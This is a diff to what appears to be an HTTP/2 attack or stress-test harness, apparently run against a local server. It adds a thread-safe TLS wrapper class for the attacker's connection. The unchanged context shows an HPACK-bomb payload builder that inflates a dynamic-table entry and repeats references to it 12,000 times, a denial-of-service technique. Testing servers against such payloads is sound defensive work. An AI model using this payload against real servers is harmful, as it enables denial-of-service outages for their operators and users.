@@ -113,7 +113,7 @@ class Attack:
                 self.add("connections")
                 return sock
             if self.context is not None:
-                sock = self.context.wrap_socket(sock, server_hostname="localhost")
+                sock = TlsPipe(sock, self.context)  # type: ignore[assignment]
             # Our SETTINGS (a large window, so the server may send) and a large connection
             # window; then the server's own SETTINGS are acknowledged by the reader.
             settings = struct.pack(">HI", 4, 1 << 30)
@@ -350,6 +350,68 @@ def _hpack_bomb(block: bytes) -> bytes:
     size = bytes([0x7F]) + bytes([(3873 & 0x7F) | 0x80, 3873 >> 7])
     insert = b"\x40" + bytes([6]) + b"x-bomb" + size + value
     return block + insert + b"\xbe" * 12_000
+
+
+class TlsPipe:
+    """TLS over a socket that one thread may read while another writes. An ``SSLSocket`` may
+    not: both threads then run OpenSSL on one connection at once (the attacker crashed with
+    "malloc(): unsorted double linked list corrupted"). Here the TLS state is a memory
+    object driven under a lock, and only the raw socket blocks."""
+
+    def __init__(self, raw: socket.socket, context: ssl.SSLContext) -> None:
+        self.raw = raw
+        self._in, self._out = ssl.MemoryBIO(), ssl.MemoryBIO()
+        self._tls = context.wrap_bio(self._in, self._out, server_hostname="localhost")
+        self._lock = threading.Lock()  # the TLS state
+        self._sending = threading.Lock()  # records go out in the order they were made
+        raw.settimeout(5)
+        while True:
+            try:
+                self._tls.do_handshake()
+                break
+            except ssl.SSLWantReadError:
+                raw.sendall(self._out.read())
+                data = raw.recv(1 << 16)
+                if not data:
+                    raise ConnectionResetError("closed during the TLS handshake") from None
+                self._in.write(data)
+        raw.sendall(self._out.read())
+
+    def sendall(self, data: bytes | bytearray) -> None:
+        with self._sending:
+            with self._lock:
+                view = memoryview(data)
+                while view:
+                    view = view[self._tls.write(view) :]
+                records = self._out.read()
+            self.raw.sendall(records)
+
+    def recv(self, size: int) -> bytes:
+        while True:
+            with self._lock:
+                try:
+                    return self._tls.read(size)
+                except ssl.SSLWantReadError:
+                    pass
+                except ssl.SSLZeroReturnError:
+                    return b""
+            data = self.raw.recv(1 << 16)
+            if not data:
+                return b""
+            with self._lock:
+                self._in.write(data)
+
+    def settimeout(self, timeout: float | None) -> None:
+        self.raw.settimeout(timeout)
+
+    def setblocking(self, flag: bool) -> None:
+        self.raw.setblocking(flag)
+
+    def shutdown(self, how: int) -> None:
+        self.raw.shutdown(how)
+
+    def close(self) -> None:
+        self.raw.close()
 
 
 def _client_hello(context: ssl.SSLContext) -> bytes:
